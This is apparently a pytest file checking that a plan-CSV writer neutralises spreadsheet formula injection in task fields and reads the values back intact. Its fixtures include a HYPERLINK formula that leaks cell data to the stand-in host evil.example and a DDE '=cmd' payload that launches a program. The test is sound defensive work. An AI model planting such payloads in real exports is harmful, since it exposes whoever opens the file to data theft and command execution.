"""Task texts that a spreadsheet would run as formulas are written inert to the plan CSV and read back
exactly."""

from __future__ import annotations

import csv

from clusterdesk.io.plan_csv import read_plan_csv, write_plan_csv
from clusterdesk.io.plan_records import PlanDocument, TaskRecord

LINK_FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_formula_like_task_texts_are_quoted_in_the_file_and_read_back_exactly(tmp_path):
    document = PlanDocument("Plan")
    document.tasks = [
        TaskRecord(
            key="1", name=LINK_FORMULA, notes="-2+3", description="@SUM(A1:A9)", cda_in_charge="+Ana",
            firms=["=cmd|'/c calc'!A1", "Textiles"], responsible=[("=Chamber", "lead")],
            budget={"public": 20.0},
        ),
        TaskRecord(key="1.1", name="'=not a formula", level=2, notes="'Quoted"),
    ]  # fmt: skip
    path = write_plan_csv(document, tmp_path / "plan.csv")
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["name"] == "'" + LINK_FORMULA and rows[0]["notes"] == "'-2+3"
    assert rows[0]["firms"] == "'=cmd|'/c calc'!A1; Textiles" and rows[0]["budget_public"] == "20"
    assert rows[1]["name"] == "''=not a formula" and rows[1]["notes"] == "'Quoted"
    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
    first, second = read_plan_csv(path).tasks
    assert (first.name, first.notes, first.description, first.cda_in_charge) == (
        LINK_FORMULA, "-2+3", "@SUM(A1:A9)", "+Ana",
    )  # fmt: skip
    assert first.firms == ["=cmd|'/c calc'!A1", "Textiles"] and first.responsible == [("=Chamber", "lead")]
    assert (second.name, second.notes) == ("'=not a formula", "'Quoted")
